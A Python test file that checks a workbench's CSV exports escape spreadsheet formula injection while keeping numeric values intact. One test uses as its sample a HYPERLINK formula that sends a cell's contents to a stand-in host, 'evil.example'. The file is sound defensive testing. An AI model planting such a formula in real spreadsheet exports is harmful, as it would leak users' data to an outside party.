"""CSV formula injection: every CSV the workbench writes (review export, evaluation export, `prompts expand --csv`,
the sweep table) escapes text a spreadsheet would run as a formula, and leaves real numbers alone."""
import csv
import io
import zipfile

import pytest
from typer.testing import CliRunner

from hostile.text import FORMULA_CELLS
from workbench.csvsafe import csv_text, safe_cell
from workbench.review import decide, export_approved
from helpers.review import make_generation, make_users


@pytest.mark.parametrize("cell", FORMULA_CELLS)
def test_formula_cells_get_a_leading_quote_and_read_back_as_text(cell):
    assert safe_cell(cell) == "'" + cell
    (row,) = list(csv.reader(io.StringIO(csv_text(["v"], [[cell]]), newline="")))[1:]
    assert row == ["'" + cell]


@pytest.mark.parametrize("value", [-1.5, -1, 0, 2.25, None, True, "plain text", "a = b", "x-1", ""])
def test_numbers_and_harmless_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_export_escapes_a_formula_prompt_and_keeps_a_negative_score(workspace):
    make_users()
    formula = '=HYPERLINK("http://evil.example/x?leak="&A1,"click")'
    gid = make_generation(prompt=formula, clip_score=-1.5, negative_prompt="@SUM(1)")
    decide("ana", gid, "approve", comment="+1 looks good", tags=["hero"])
    result = export_approved("ana", brand="northwind")
    with zipfile.ZipFile(result.path) as zf:
        (row,) = csv.DictReader(io.StringIO(zf.read("metadata.csv").decode()))
    assert row["prompt"] == "'" + formula and row["negative_prompt"] == "'@SUM(1)"
    assert row["comment"] == "'+1 looks good"
    assert row["clip_score"] == "-1.5"
    assert row["tags"] == '["hero"]'


def test_evaluation_export_escapes_names(monkeypatch):
    from workbench.evaluate import results

    monkeypatch.setattr(results, "result_rows", lambda ids: [
        {"evaluation": 1, "name": "=1+1", "image_set": "-set", "metric": "clip_cosine", "value": -0.25, "n": 3}])
    (row,) = csv.DictReader(io.StringIO(results.export_csv([1])))
    assert (row["name"], row["image_set"], row["value"], row["n"]) == ("'=1+1", "'-set", "-0.25", "3")


def test_prompts_expand_csv_escapes_prompts(workspace, tmp_path):
    from workbench.prompts.cli import app

    tpl = workspace / "prompt_templates" / "products" / "formula.yaml"
    tpl.parent.mkdir(parents=True)
    tpl.write_text('name: formula\ntext: "=HYPERLINK({color})"\nslots:\n  color: {values: [navy], default: navy}\n')
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(app, ["expand", "formula", "--csv", str(out), "-q"])
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(out.open(newline=""))
    assert row["prompt"] == "'=HYPERLINK(navy)"
